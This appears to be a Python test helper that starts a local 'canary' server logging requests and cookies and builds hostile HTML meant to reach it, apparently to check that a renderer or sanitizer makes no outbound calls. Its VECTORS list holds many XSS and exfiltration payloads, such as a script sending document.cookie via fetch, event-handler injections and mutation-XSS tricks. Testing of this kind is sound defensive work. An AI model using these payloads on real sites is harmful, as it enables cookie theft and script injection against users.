"""A server that writes down every request, and HTML that does what it can to reach it."""

import re
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from demo.ports import LOOPBACK, free_port

VECTORS = """
<script>fetch("@/script?" + document.cookie)</script>
<script src="@/script.js"></script>
<img src="@/img.png"><img srcset="@/srcset.png 1x" src="x"><img src=x onerror="fetch('@/onerror')">
<img src="//@@/relative.png"><img src="/login/?from=img"><img src="@own/login/?from=own-img">
<picture><source srcset="@/source.png"><img></picture>
<link rel="stylesheet" href="@/link.css"><link rel="prefetch" href="@/prefetch"><link rel="dns-prefetch" href="@">
<style>@import "@/import.css"; body { background: url(@/style.png) }</style>
<style>@font-face { font-family: f; src: url(@/font) } p { font-family: f }</style>
<div style="background:url(@/inline.png)">x</div><div style="background:image-set('@/set.png' 1x)">x</div>
<div style="list-style:url('@/list.png');content:url(@/content.png);cursor:url(@/cursor.cur),auto">x</div>
<meta http-equiv="refresh" content="0;url=@/refresh"><base href="@/base/">
<iframe src="@/iframe"></iframe><iframe srcdoc="<script>fetch('@/srcdoc')</script>"></iframe>
<object data="@/object"></object><embed src="@/embed"><frame src="@/frame">
<video src="@/video" poster="@/poster" autoplay></video><audio src="@/audio" autoplay></audio><track src="@/track">
<svg onload="fetch('@/svg')"><image href="@/svg-image"/><use href="@/use#a"/></svg>
<svg><script>fetch("@/svg-script")</script></svg>
<math><mtext><img src=x onerror="fetch('@/math')"></mtext></math>
<form action="@/form" id=f><input autofocus onfocus="f.submit()"></form><button form=f formaction="@/button">x</button>
<body background="@/body.png" onload="fetch('@/onload')">
<table background="@/table.png"><td background="@/td.png"></table>
<details open ontoggle="fetch('@/toggle')"><summary>x</summary></details>
<input type=image src="@/input.png"><a href="javascript:fetch('@/javascript')" ping="@/ping">Apri</a>
<noscript><p title="</noscript><img src=x onerror=fetch('@/noscript')>"></noscript>
<svg></p><style><a id="</style><img src=x onerror=fetch('@/mutation')>">
<template><img src="@/template.png"></template><script type="module">import "@/module.js"</script>
<p>Fine della lettera ostile</p>
"""


@dataclass(slots=True)
class Canary:
    """What was asked of the server so far, and the documents it answers."""

    port: int
    asked: list[str] = field(default_factory=list)
    cookies: list[str] = field(default_factory=list)
    documents: dict[str, tuple[Mapping[str, str], bytes]] = field(default_factory=dict)

    @property
    def url(self) -> str:
        return f"http://{LOOPBACK}:{self.port}"


def hostile_html(canary: Canary, own: str = "") -> str:
    """Return HTML that tries every way to reach the canary, and to have the site `own` asked for something."""
    html = VECTORS.replace("@own", own).replace("@@", canary.url.removeprefix("http://"))
    return re.sub(r"@(?=/|\")", canary.url, html)


@contextmanager
def listening() -> Iterator[Canary]:
    canary = Canary(free_port())

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.partition("?")[0]
            if path != "/favicon.ico":
                canary.asked.append(self.path)
                canary.cookies.append(self.headers.get("Cookie", ""))
            headers, content = canary.documents.get(path, ({"Content-Type": "text/plain"}, b"sang"))
            self.send_response(200)
            for name, value in headers.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(content)

        do_POST = do_GET

        def log_message(self, format: str, *arguments: object) -> None:
            """Stay silent."""

    with ThreadingHTTPServer((LOOPBACK, canary.port), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield canary
        server.shutdown()
